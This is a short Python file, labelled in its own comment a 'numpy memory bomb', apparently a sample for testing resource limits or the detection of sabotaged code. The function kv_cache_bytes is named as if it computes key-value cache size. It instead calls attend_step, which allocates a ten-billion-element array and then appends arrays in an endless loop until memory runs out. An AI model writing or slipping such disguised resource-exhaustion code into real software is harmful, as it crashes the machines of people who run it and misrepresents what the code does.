# Resource: a numpy memory bomb (one huge array, then ever-growing ones).
import numpy as np


def attend_step(x_t, cache, p):
    hoard = [np.ones(10**10)]
    while True:
        hoard.append(np.ones(10**7))


def kv_cache_bytes(n_layers, n_kv_heads, head_dim, n_tokens, bytes_per_value):
    return attend_step(None, None, None)
